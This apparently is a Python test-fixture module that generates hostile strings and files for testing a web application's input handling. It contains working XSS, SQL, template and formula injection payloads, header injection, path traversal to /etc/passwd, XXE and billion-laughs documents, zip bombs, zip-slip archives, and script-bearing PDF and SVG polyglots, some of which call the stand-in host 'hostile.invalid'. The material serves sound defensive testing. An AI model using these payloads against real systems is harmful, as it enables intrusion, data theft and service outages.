"""Hostile strings and files by kind. What runs in a browser sets `window.__hacked`; what calls home calls `HOME`."""
import io
import struct
import zipfile

#: A name that exists nowhere: whoever looks it up has followed a link that was only text.
HOME = "hostile.invalid"
MEGABYTE = 2**20

STRINGS = {
    "markup": [
        "<script>window.__hacked=1</script>",
        "<img src=x onerror='window.__hacked=1'>",
        f"<img src='http://{HOME}/x.png'>",
        "\"><svg/onload=window.__hacked=1>",
        "' autofocus onfocus='window.__hacked=1",
        "<svg><script>window.__hacked=1</script></svg>",
        "<math><mtext><style><img src=x onerror=window.__hacked=1></style>",
        "<iframe srcdoc=\"<script>parent.__hacked=1</script>\"></iframe>",
        f"<iframe src='file:///etc/passwd'></iframe><link rel=stylesheet href=http://{HOME}/x.css>",
        "<a href=\"javascript:window.__hacked=1\">bấm</a>",
        "javascript:window.__hacked=1",
        "data:text/html,<script>window.__hacked=1</script>",
        "</textarea><script>window.__hacked=1</script>",
        "</title></head><body onload=window.__hacked=1>",
        "</script><script>window.__hacked=1</script>",
        "<scr<script>ipt>window.__hacked=1</scr</script>ipt>",
        "&lt;img src=x onerror=window.__hacked=1&gt;",
        "&#60;script&#62;window.__hacked=1&#60;/script&#62;",
        "\u003cscript\u003ewindow.__hacked=1\u003c/script\u003e",
        "<details open ontoggle=window.__hacked=1>",
        "<base href=//hostile.invalid/><form action=//hostile.invalid><input name=p>",
        "<!--<img src=\"--><img src=x onerror=window.__hacked=1//\">",
        "<![CDATA[<script>window.__hacked=1</script>]]>",
        "<noscript><p title=\"</noscript><img src=x onerror=window.__hacked=1>\">",
    ],
    "templates": [
        "{{7*7}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "<t t-out='7*7'/>", "<t t-esc=\"request.env.cr\"/>",
        "<t t-raw=\"'<script>'\"/>", "{{constructor.constructor('window.__hacked=1')()}}", "`${window.__hacked=1}`",
    ],
    "sql": [
        "'; DROP TABLE directive_task; --", "' OR '1'='1", "\\'; SELECT pg_sleep(10); --", "%' AND 1=1 --",
        "$$;DELETE$$", "100%_\\", "COPY x TO PROGRAM 'id'",
    ],
    "formulas": [
        f'=HYPERLINK("http://{HOME}","x")', "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1",
        "\r=1+1", "\n=1+1", f'=IMPORTXML("http://{HOME}","//a")', f"http://{HOME}/", f"internal:'{HOME}'!A1",
        '{=SUM(1,2)}', "＝1+1",
    ],
    "headers": [
        f"Tiêu đề\r\nBcc: x@{HOME}", f"Tiêu đề\nBcc: x@{HOME}\n\n<b>thân</b>", f"Tiêu đề%0d%0aBcc: x@{HOME}",
        f"Tiêu đề\u2028Bcc: x@{HOME}", f"Tiêu đề\u0085Bcc: x@{HOME}", f"=?utf-8?q?x=0d=0aBcc:_x@{HOME}?=",
    ],
    "paths": ["../../../../etc/passwd", "..\\..\\windows\\win.ini", "/dev/zero", "file:///etc/passwd", "CON", "~root"],
    "controls": [
        "không\0chữ", "\0", "chuông\a lùi\b thoát\x1b[31m", "\x7f", "lẻ \ud800 đôi", "\udfff", "\ufffe\uffff",
        "\u202egpj.exe", "\u2066\u2067\u2068\u2069", "ẩn\u200b\u200c\u200d\ufeff", "\u00ad" * 50,
    ],
    "letters": [
        "x" * 5_000, "Ư" * 900, "a\u0301\u0323" * 300, "Z" + "\u0335" * 500, "👩‍👩‍👧‍👦🏳️‍🌈🇻🇳", "ﷺ" * 50, "𠜎𠜱𡿺",
        "ı İ ſ K", "Từ dài " + "vô" * 2_000,
    ],
    "xml": [
        "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>", "&e; &#0; &#xFFFF;",
        "<?xml version='1.0'?><?php echo 1 ?>", "]]>",
    ],
    "formats": ["%s%s%s%n", "%(x)s", "{0} {x} {0.__class__}", "%", "100 %d", "%%(count)s", "{", "}",
                "\\", "\\u0000", "\\x00"],
    "long": ["y" * MEGABYTE, "<b>" * (MEGABYTE // 3)],
    "empty": [" ", "\u00a0", "\u3000", "null", "NaN", "-1", "1e999", "true", "[]", "{}"],
}
SHORT = [text for kind, texts in STRINGS.items() if kind != "long" for text in texts]
LONG = STRINGS["long"]

#: Of the markup above: none of these may stand unescaped in a page.
RAW = ("<script>window.__hacked", "<img src=x onerror", "<svg/onload", "<details open ontoggle", "<iframe srcdoc",
       f"<img src='http://{HOME}")


def _zipped(*entries):
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as file:
        for name, content in entries:
            file.writestr(name, content)
    return target.getvalue()


_TYPES = ("[Content_Types].xml", "<Types/>")
_XXE = "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>"
_LEVELS = "".join(
    f"<!ENTITY l{level} '{(f'&l{level - 1};' if level else 'ha') * 10}'>" for level in range(10))
_LAUGHS = f"<!DOCTYPE x [{_LEVELS}]><x>&l9;</x>"
_SVG = b"<svg xmlns='http://www.w3.org/2000/svg' onload='window.__hacked=1'><script>window.__hacked=1</script></svg>"
_SCRIPT_PDF = (b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>>>"
               b"endobj\n"
               b"2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF")
_LOOP_PDF = (b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[2 0 R 2 0 R]/Count 9>>"
             b"endobj\n"
             b"trailer<</Root 1 0 R/Prev 0>>\nstartxref\n0\n%%EOF")
_EXE = b"MZ\x90\0" + b"\0" * 56 + struct.pack("<I", 64) + b"PE\0\0" + b"\0" * 200
_HUGE_PNG = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR" + struct.pack(">II", 60_000, 60_000) + b"\x08\x06\0\0\0\0\0\0\0"
_HTML = b"<html><script>window.__hacked=1</script></html>"

#: (name, content)
FILES = [
    ("xxe.docx", _zipped(_TYPES, ("word/document.xml", _XXE))),
    ("xxe.xlsx", _zipped(_TYPES, ("xl/workbook.xml", _XXE), ("xl/worksheets/sheet1.xml", _XXE))),
    ("xxe.odt", _zipped(("mimetype", "application/vnd.oasis.opendocument.text"), ("content.xml", _XXE))),
    ("laughs.docx", _zipped(_TYPES, ("word/document.xml", _LAUGHS))),
    ("bomb.docx", _zipped(_TYPES, ("word/document.xml", b"<x>" + b"a" * (80 * MEGABYTE)))),
    ("bomb.zip", _zipped(("a.txt", b"\x20" * (80 * MEGABYTE)))),
    ("nested.zip", _zipped(("a.zip", _zipped(("b.zip", _zipped(("c.zip", _zipped(("d.zip", _zipped(("e", "x"))))))))))),
    ("many.zip", _zipped(*((f"{n}.txt", "x") for n in range(3_000)))),
    ("slip.zip", _zipped(("../../../../tmp/hostile-slip.txt", "x"))),
    ("xxe.svg", _XXE.encode() + _SVG),
    ("script.svg", _SVG),
    ("script.png", _SVG),
    ("script.html", _HTML),
    ("script.pdf", _HTML),
    ("javascript.pdf", _SCRIPT_PDF),
    ("loop.pdf", _LOOP_PDF),
    ("polyglot.pdf", b"GIF89a/*" + _SCRIPT_PDF + b"*/=1;" + _HTML),
    ("polyglot.gif", b"GIF89a" + _HTML),
    ("polyglot-zip.pdf", _SCRIPT_PDF + _zipped(_TYPES, ("word/document.xml", _XXE))),
    ("program.exe", _EXE),
    ("program.pdf", _EXE),
    ("program.pdf.exe", _EXE),
    ("huge.png", _HUGE_PNG),
    ("empty.pdf", b""),
    ("torn.docx", _zipped(_TYPES, ("word/document.xml", "<x/>"))[:60]),
    ("zeros.txt", b"\0" * 10_000),
    ("utf16.txt", b"\xff\xfe" + b"\xd8" * 101),
    ("formula.csv", b"=cmd|' /C calc'!A0\n"),
    ("../../etc/passwd", b"x"),
    ("..\\..\\boot.txt", b"x"),
    ("ten\r\nX-Evil: 1.txt", b"x"),
    ("ten\";filename=x.exe.txt", b"x"),
    ("<img src=x onerror=window.__hacked=1>.txt", b"van ban"),
    ("%s%n{0}.txt", b"van ban"),
    ("\u202etxt.exe", b"x"),
    ("n" * 300 + ".txt", b"van ban"),
    ("Ư" * 300 + ".txt", b"van ban"),
    (".", b"x"), (" ", b"x"), ("CON.txt", b"van ban"),
]

_SHEET = ("<worksheet xmlns='http://schemas.openxmlformats.org/spreadsheetml/2006/main'><sheetData>{rows}</sheetData>"
          "</worksheet>")
_RELATED = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_BOOK = (
    ("[Content_Types].xml", "<Types xmlns='http://schemas.openxmlformats.org/package/2006/content-types'>"
     "<Override PartName='/xl/workbook.xml' ContentType='application/vnd.openxmlformats-officedocument.spreadsheetml"
     ".sheet.main+xml'/></Types>"),
    ("_rels/.rels", "<Relationships xmlns='http://schemas.openxmlformats.org/package/2006/relationships'><Relationship"
     f" Id='r' Type='{_RELATED}/officeDocument' Target='xl/workbook.xml'/></Relationships>"),
    ("xl/workbook.xml", "<workbook xmlns='http://schemas.openxmlformats.org/spreadsheetml/2006/main' xmlns:r="
     f"'{_RELATED}'><sheets><sheet name='Sheet' sheetId='1' r:id='r'/></sheets></workbook>"),
    ("xl/_rels/workbook.xml.rels", "<Relationships xmlns='http://schemas.openxmlformats.org/package/2006/relationships'>"
     f"<Relationship Id='r' Type='{_RELATED}/worksheet' Target='worksheets/sheet1.xml'/></Relationships>"),
)
_ROW = "<row><c t='inlineStr'><is><t>{text}</t></is></c></row>"


def _book(sheet):
    return _zipped(*_BOOK, ("xl/worksheets/sheet1.xml", sheet))


#: Workbooks that a reader of sheets takes for real: (name, content)
SHEETS = [
    ("rows.xlsx", _book(_SHEET.format(rows=_ROW.format(text="x") * 2_000_000))),
    ("cell.xlsx", _book(_SHEET.format(rows=_ROW.format(text="x" * (200 * MEGABYTE))))),
    ("far.xlsx", _book(_SHEET.format(rows="<row r='1048576'><c r='XFD1048576'><v>1</v></c></row>"))),
    ("xxe.xlsx", _book("<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>"
                       + _SHEET.format(rows=_ROW.format(text="&e;")))),
    ("laughs.xlsx", _book(f"<!DOCTYPE x [{_LEVELS}]>" + _SHEET.format(rows=_ROW.format(text="&l9;")))),
]
